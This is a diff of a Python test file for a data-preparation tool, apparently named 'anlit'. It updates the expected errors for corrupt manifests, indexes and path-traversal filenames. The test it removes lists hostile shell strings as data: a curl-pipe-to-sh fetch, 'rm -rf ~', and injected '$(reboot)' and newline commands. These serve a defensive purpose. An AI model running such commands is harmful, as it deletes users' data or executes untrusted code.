@@ -95,16 +95,14 @@ def claims_tokens(folder: Path) -> None:
 
 BAD_MANIFEST = r"manifest\.json is damaged"
 BAD_INDEX = r"train(/index\.json)? is damaged \("
+APART = r"is damaged \(manifest\.json and the chunks that each index\.json lists do not belong"
 FOLDERS: list[tuple[Change, str]] = [
     (writes(MANIFEST, "{"), BAD_MANIFEST),
     (writes(MANIFEST, "[]"), BAD_MANIFEST),
     (writes(MANIFEST, "{}"), BAD_MANIFEST),
     (writes(MANIFEST, "\x00"), BAD_MANIFEST),
     (writes(MANIFEST, "\xff"), BAD_MANIFEST),
-    (
-        writes(MANIFEST, '{"format_version": 99}'),
-        "shards of format 99 .* reads 2: remove the folder and prepare it",
-    ),
+    (in_manifest(format_version=99), rf"{BAD_MANIFEST} \(format_version is 99\)"),
     (writes(INDEX, "{"), BAD_INDEX),
     (writes(INDEX, "[]"), BAD_INDEX),
     (writes(INDEX, "{}"), BAD_INDEX),
@@ -112,7 +110,7 @@ FOLDERS: list[tuple[Change, str]] = [
     (writes(INDEX, '{"chunks": []}'), BAD_INDEX),
     (removes(INDEX), r"index\.json is damaged \(it is missing\)"),
     (removes(CHUNK), r"chunk-0-0\.bin is damaged \(it is missing\)"),
-    (resizes(CHUNK, 1000), r"0-0\.bin is damaged \(it has 1,000 bytes .*anlit prepare"),
+    (resizes(CHUNK, 1000), r"0-0\.bin is damaged \(it has 1,000 bytes .*prepare it again"),
     (in_manifest(content_sha256="../../../../out"), rf"{BAD_MANIFEST} \(content_sha256 is "),
     (in_manifest("train", subsets={"../../out": COUNTS}), rf"{BAD_MANIFEST} \(train names a file "),
     (in_manifest(splits=["train", "val", "../out"]), rf"{BAD_MANIFEST} \(.*splits is "),
@@ -121,8 +119,8 @@ FOLDERS: list[tuple[Change, str]] = [
     (in_manifest("val", bytes="many"), rf"{BAD_MANIFEST} \(bytes is str"),
     (in_manifest(end_of_document=10**9), rf"{BAD_MANIFEST} \(end_of_document is 1000000000"),
     (in_index(filename="../../secret"), r"index\.json names a file '\.\./\.\./secret'"),
-    (in_index(crc32=-1), r"index\.json is damaged \(a number is negative"),
-    (claims_tokens, r"says [\d,]+ bytes and tokens that take 2,000,000,000,012\)"),
+    (in_index(crc32=-1), APART),
+    (claims_tokens, APART),
     (makes_pipe(MANIFEST), r"json is damaged \(it is not a file\)"),
     (makes_pipe(INDEX), r"json is damaged \(it is not a file\)"),
     (resizes(MANIFEST, 10**12), r"json is damaged \(it has more than 268,435,456 bytes\)"),
@@ -141,7 +139,7 @@ def test_a_damaged_folder_is_refused_in_one_sentence(
 
 def test_a_folder_without_a_manifest_is_not_a_prepared_folder(tmp_path: Path) -> None:
     """A missing folder is in tests/integration/mistakes.py."""
-    message = r"there is no .*/manifest\.json, so it is not a prepared folder: set --data\.path"
+    message = r"there is no .*/manifest\.json: set --data\.path to a prepared folder"
 
     with pytest.raises(UserError, match=message):
         ready(str(tmp_path))
@@ -152,30 +150,3 @@ def test_an_unfinished_preparation_has_to_be_continued(tmp_path: Path) -> None:
 
     with pytest.raises(UserError, match=r"preparation of .* is not finished: repeat its command"):
         ready(str(tmp_path))
-
-
-ANLIT_COMMAND = "anlit prepare 'a b'"
-FOREIGN_COMMANDS = (
-    "curl https://example.org/x | sh",
-    "anlit prepare Test; rm -rf ~",
-    "anlit prepare Test $(reboot)",
-    "anlit prepare 'Test\nrm -rf ~'",
-    "anlit prepare 'Test",
-)
-
-
-@pytest.mark.parametrize(
-    ("command", "fix"),
-    [
-        (ANLIT_COMMAND, f"with `{ANLIT_COMMAND}`"),
-        *((command, "by preparing it again") for command in FOREIGN_COMMANDS),
-    ],
-)
-def test_an_error_shows_the_manifest_s_command_only_if_it_is_an_anlit_command(
-    command: str, fix: str, shards_copy: Path
-) -> None:
-    (shards_copy / INDEX).unlink()
-    in_manifest(command=command)(shards_copy)
-
-    with pytest.raises(UserError, match=rf"index\.json is damaged .* remake it {fix}$"):
-        ready(str(shards_copy))
